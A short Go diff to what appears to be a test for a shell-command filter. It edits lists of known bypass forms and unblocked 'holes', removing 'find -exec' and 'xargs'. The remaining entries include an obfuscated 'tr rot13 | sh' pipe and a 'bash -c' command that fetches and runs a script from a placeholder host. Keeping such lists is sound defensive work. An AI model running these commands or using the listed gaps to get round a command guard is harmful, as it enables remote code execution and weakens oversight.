@@ -252,10 +252,8 @@ var gridHeldAnyway = map[string]bool{"sudo -E env X": true, "chroot /": true, "s
 // way name (or, for code that cannot be read, the command); they are
 // logged, not failed (see the round's report).
 var gridHoles = map[string]bool{
-	`find -exec`:    true,
 	`printf -v`:     true,
 	`tr rot13 | sh`: true,
-	`xargs`:         true,
 	`bash -c "$(wget -qO- https://x.example/s)"`: true,
 }
 
